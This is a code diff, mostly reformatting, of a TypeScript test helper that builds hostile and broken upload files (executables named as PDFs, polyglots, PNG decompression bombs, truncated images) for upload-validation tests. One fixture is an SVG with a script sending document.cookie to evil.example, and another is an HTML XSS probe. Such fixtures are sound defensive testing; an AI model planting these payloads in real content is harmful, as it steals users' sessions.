@@ -1,5 +1,6 @@
 /** Builds the hostile and broken files the upload tests send: real bytes, made the way an attacker or a bad scanner would. */
 import { crc32, deflateSync } from 'node:zlib';
+
 import sharp from 'sharp';
 
 /** One PNG chunk with a correct length and CRC. */
@@ -21,7 +22,12 @@ export function pngWith(width: number, height: number, idat: Buffer): Buffer {
   ihdr.writeUInt32BE(height, 4);
   ihdr[8] = 8;
   ihdr[9] = 2;
-  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', ihdr),
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A real photo-like image (gradient with noise) of the given size. */
@@ -53,8 +59,17 @@ export function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffe
 export async function hostileFiles(): Promise<Record<string, { bytes: Buffer; fileName: string }>> {
   const jpeg = await realImage('jpeg');
   const png = await realImage('png');
-  const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(200, 0x90), Buffer.from('This program cannot be run in DOS mode', 'latin1')]);
-  const zip = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(64, 1), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
+  const exe = Buffer.concat([
+    Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
+    Buffer.alloc(200, 0x90),
+    Buffer.from('This program cannot be run in DOS mode', 'latin1'),
+  ]);
+  const zip = Buffer.concat([
+    Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'),
+    Buffer.alloc(64, 1),
+    Buffer.from('PK\x05\x06', 'latin1'),
+    Buffer.alloc(18),
+  ]);
   const badCrc = Buffer.from(png);
   const idatAt = pngChunkOffset(badCrc, 'IDAT');
   badCrc[idatAt + 8 + 10] = (badCrc[idatAt + 8 + 10] ?? 0) ^ 0xff;
@@ -62,9 +77,20 @@ export async function hostileFiles(): Promise<Record<string, { bytes: Buffer; fi
   return {
     'exe-as-pdf': { bytes: exe, fileName: 'surat.pdf' },
     'exe-as-jpg': { bytes: exe, fileName: 'foto.jpg' },
-    'polyglot-junk-then-pdf': { bytes: Buffer.concat([Buffer.from('GIF89a junk before the header ', 'latin1'), Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n', 'latin1')]), fileName: 'surat.pdf' },
+    'polyglot-junk-then-pdf': {
+      bytes: Buffer.concat([
+        Buffer.from('GIF89a junk before the header ', 'latin1'),
+        Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n', 'latin1'),
+      ]),
+      fileName: 'surat.pdf',
+    },
     zip: { bytes: zip, fileName: 'berkas.pdf' },
-    'svg-with-script': { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/"+document.cookie)</script></svg>'), fileName: 'foto.png' },
+    'svg-with-script': {
+      bytes: Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/"+document.cookie)</script></svg>',
+      ),
+      fileName: 'foto.png',
+    },
     'html-as-jpg': { bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), fileName: 'foto.jpg' },
     'png-named-pdf': { bytes: png, fileName: 'surat.pdf' },
     'jpeg-truncated': { bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)), fileName: 'foto.jpg' },
@@ -74,8 +100,14 @@ export async function hostileFiles(): Promise<Record<string, { bytes: Buffer; fi
     'png-truncated': { bytes: png.subarray(0, png.length - 30), fileName: 'foto.png' },
     'png-garbage-pixels-good-crc': { bytes: pngWith(320, 240, Buffer.alloc(500, 0x5a)), fileName: 'foto.png' },
     'png-bomb-50000x50000': { bytes: pngWith(50000, 50000, deflateSync(zeros, { level: 9 })), fileName: 'foto.png' },
-    'png-bomb-more-data-than-header': { bytes: pngWith(100, 100, deflateSync(zeros, { level: 9 })), fileName: 'foto.png' },
+    'png-bomb-more-data-than-header': {
+      bytes: pngWith(100, 100, deflateSync(zeros, { level: 9 })),
+      fileName: 'foto.png',
+    },
     'pdf-header-only': { bytes: Buffer.from('%PDF-', 'latin1'), fileName: 'surat.pdf' },
-    'pdf-truncated': { bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pag', 'latin1'), fileName: 'surat.pdf' },
+    'pdf-truncated': {
+      bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pag', 'latin1'),
+      fileName: 'surat.pdf',
+    },
   };
 }
